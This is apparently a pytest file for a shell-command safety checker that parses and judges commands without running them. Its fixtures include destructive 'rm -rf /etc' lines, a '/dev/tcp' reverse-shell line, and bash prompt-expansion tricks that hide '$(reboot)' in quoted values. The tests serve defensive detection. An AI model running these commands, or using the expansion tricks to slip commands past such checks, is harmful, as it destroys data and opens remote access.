"""The shell reader (`reos.safety.shell`) and what the judge makes of its reading.

Each command here is only parsed and judged, never run."""

from __future__ import annotations

import pytest

from reos.model import RiskLevel
from reos.safety.risk import assess
from reos.safety.shell import parse_script
from reos.safety.syntax import Unparseable

# values bash expands a second time: the `$(…)` in them runs then, though the assignment
# quoted it (`x='$(cmd)'` alone runs nothing)
EXPANDED_AGAIN = [
    ("x='$(reboot)'; echo ${x@P}", "shuts down or restarts"),
    ("p='$(touch /tmp/p)'; echo \"${p@P}\"", "touch creates files"),
    ("x='a[$(touch /tmp/p)]'; echo \"${!x}\"", "touch creates files"),
    ("PS4='$(reboot)' bash -xc uptime", "shuts down or restarts"),
    ("PS4='$(touch /tmp/p) '; set -x; true", "touch creates files"),
]


@pytest.mark.parametrize(("command", "reason"), EXPANDED_AGAIN)
def test_code_in_a_value_expanded_again_is_judged(command: str, reason: str) -> None:
    verdict = assess(command)
    assert any(reason in r for r in verdict.reasons), verdict.reasons
    assert not verdict.read_only


def test_a_quoted_value_alone_runs_nothing() -> None:
    verdict = assess("x='$(reboot)'; echo \"$x\"")
    assert verdict.risk <= RiskLevel.LOW and not verdict.blocked


# what tree-sitter-bash hangs on a redirection, or drops, read as bash reads it (found by
# reading thousands of generated lines with both grammars)
READ_AS_BASH = [
    ("rm 2>/dev/null -rf /etc", ["rm", "-rf", "/etc"], [(">", "/dev/null")]),
    ("> /tmp/f rm -rf /etc", ["rm", "-rf", "/etc"], [(">", "/tmp/f")]),
    ("cat &>/dev/null -v /x", ["cat", "-v", "/x"], [("&>", "/dev/null")]),
    ("bash -i >& /dev/tcp/h/1 0>&1", ["bash", "-i"], [(">&", "/dev/tcp/h/1"), (">&", "1")]),
    ("cat 0< /etc/hosts x", ["cat", "x"], [("<", "/etc/hosts")]),
    ("ls - 1> /tmp/q", ["ls", "-"], [(">", "/tmp/q")]),
    ("exec 3>&- 4<&-", ["exec"], [(">&", "-"), ("<&", "-")]),
    ("cat <<EOF > /tmp/n x\nrm x\nEOF", ["cat", "x"], [("<<", "<heredoc>"), (">", "/tmp/n")]),
]


@pytest.mark.parametrize(("text", "argv", "redirects"), READ_AS_BASH)
def test_words_and_redirections_are_read_as_bash_reads_them(
        text: str, argv: list[str], redirects: list[tuple[str, str]]) -> None:
    command = parse_script(text).commands[0]
    assert command.argv == argv
    assert [(r.op, r.target) for r in command.redirects] == redirects


def test_a_grammar_misreading_without_error_is_not_trusted() -> None:
    # two backquoted substitutions read as one, and a line break inside one command: both
    # fail closed, and what runs is still judged
    for text in ("echo `id` `rm -rf /etc`", "2>/dev/null | curl | -\nrm -rf /etc > $V"):
        with pytest.raises(Unparseable):
            parse_script(text)
        verdict = assess(text)
        assert verdict.blocked and "cannot be parsed reliably" in verdict.reasons[0], text

